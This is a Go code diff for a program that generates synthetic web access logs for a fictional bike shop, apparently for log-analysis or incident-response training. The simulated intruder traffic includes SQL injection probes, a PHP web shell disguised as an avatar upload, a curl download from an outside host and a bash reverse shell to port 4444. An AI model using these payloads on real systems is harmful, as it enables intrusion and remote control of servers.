@@ -1,4 +1,4 @@
-package main
+package demo
 
 import (
 	"fmt"
@@ -6,8 +6,8 @@ import (
 )
 
 // accessLog is the access log of the shop on web1, in combined format.
-func accessLog() []byte {
-	w := &webJournal{newJournal(2)}
+func accessLog(n night) []byte {
+	w := &webJournal{newJournal(n, 2)}
 	w.shoppers()
 	w.robots()
 	w.scan()
@@ -45,7 +45,7 @@ func (w *webJournal) shoppers() {
 	for range 230 {
 		// The square of a chance is small more often than not: most come in the evening.
 		x := w.Float64()
-		t := dusk.Add(time.Duration(x * x * float64(dawn.Sub(dusk)))).Truncate(time.Second)
+		t := w.dusk().Add(time.Duration(x * x * float64(w.dawn().Sub(w.dusk())))).Truncate(time.Second)
 		addr, agent := w.customer(), browsers[w.IntN(len(browsers))]
 		referer := "https://www.bikes.example.com/"
 		for range 2 + w.IntN(5) {
@@ -69,27 +69,27 @@ func (w *webJournal) shoppers() {
 
 // robots are search engines, monitoring and the single knocks that every site hears.
 func (w *webJournal) robots() {
-	for t := dusk; t.Before(dawn); t = t.Add(5 * time.Minute) {
+	for t := w.dusk(); t.Before(w.dawn()); t = t.Add(5 * time.Minute) {
 		w.log(w.some(t), request{"198.51.100.9", "GET", "/health", 200, 2, "", "uptime-check/2.1 (+https://status.example.com)"})
 	}
 	for i := range 60 {
-		w.log(w.whenever(dusk, dawn), request{"192.0.2.77", "GET", fmt.Sprintf("/bikes.php?id=%d", 100+i), 200, 9000 + w.IntN(900), "", "ExampleBot/1.0 (+https://search.example.net/bot)"})
+		w.log(w.whenever(w.dusk(), w.dawn()), request{"192.0.2.77", "GET", fmt.Sprintf("/bikes.php?id=%d", 100+i), 200, 9000 + w.IntN(900), "", "ExampleBot/1.0 (+https://search.example.net/bot)"})
 	}
 	for range 20 {
-		w.log(w.whenever(dusk, dawn), request{fmt.Sprintf("203.0.113.%d", 100+w.IntN(100)), "GET", w.pick("/wp-login.php", "/robots.txt", "/admin/", "/boaform/admin/formLogin"), 404, 162, "", "Mozilla/5.0 zgrab/0.x"})
+		w.log(w.whenever(w.dusk(), w.dawn()), request{fmt.Sprintf("203.0.113.%d", 100+w.IntN(100)), "GET", w.pick("/wp-login.php", "/robots.txt", "/admin/", "/boaform/admin/formLogin"), 404, 162, "", "Mozilla/5.0 zgrab/0.x"})
 	}
 }
 
 // scan is the intruder who looks what is there.
 func (w *webJournal) scan() {
 	agent := "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)"
-	t := at("22:50:03")
+	t := w.at("22:50:03")
 	for i := range 130 {
 		t = t.Add(time.Duration(1+w.IntN(2)) * time.Second)
 		target := fmt.Sprintf("/%s%s%d/", w.pick("old", "backup", "admin", "test", "dev", "cgi-bin", "include"), w.pick("", "-", "_"), i)
 		w.log(t, request{intruder, "GET", target, 404, 162, "", agent})
 	}
-	t = at("22:58:10")
+	t = w.at("22:58:10")
 	for _, f := range []struct {
 		target string
 		status int
@@ -114,7 +114,7 @@ func (w *webJournal) scan() {
 // inject is the intruder who tries the parameters.
 func (w *webJournal) inject() {
 	agent := "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
-	t := at("23:06:20")
+	t := w.at("23:06:20")
 	for i, q := range []string{
 		"?id=101%27", "?id=101%27%20OR%20%271%27=%271", "?id=101%20AND%20SLEEP(5)--%20-",
 		"?id=101%20ORDER%20BY%2012--%20-", "?id=-1%20UNION%20SELECT%201,2,3,4--%20-",
@@ -137,9 +137,9 @@ func (w *webJournal) inject() {
 // shell is the web shell that comes in as a picture of a customer.
 func (w *webJournal) shell() {
 	agent := "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
-	w.log(at("23:18:40"), request{intruder, "POST", "/account/register", 302, 0, "", agent})
-	w.log(at("23:20:12"), request{intruder, "POST", "/account/avatar.php", 302, 0, "https://www.bikes.example.com/account", agent})
-	w.log(at("23:20:31"), request{intruder, "GET", "/uploads/avatars/a7f3.php", 200, 17, "", agent})
+	w.log(w.at("23:18:40"), request{intruder, "POST", "/account/register", 302, 0, "", agent})
+	w.log(w.at("23:20:12"), request{intruder, "POST", "/account/avatar.php", 302, 0, "https://www.bikes.example.com/account", agent})
+	w.log(w.at("23:20:31"), request{intruder, "GET", "/uploads/avatars/a7f3.php", 200, 17, "", agent})
 	for _, c := range []struct{ clock, command string }{
 		{"23:20:55", "id"},
 		{"23:21:03", "uname%20-a"},
@@ -148,6 +148,6 @@ func (w *webJournal) shell() {
 		{"23:23:15", "curl%20-o%20/dev/shm/kw%20http://203.0.113.66/kw"},
 		{"23:24:40", "bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/203.0.113.66/4444%200%3E%261%27"},
 	} {
-		w.log(at(c.clock), request{intruder, "GET", "/uploads/avatars/a7f3.php?c=" + c.command, 200, 20 + w.IntN(2500), "", agent})
+		w.log(w.at(c.clock), request{intruder, "GET", "/uploads/avatars/a7f3.php?c=" + c.command, 200, 20 + w.IntN(2500), "", agent})
 	}
 }
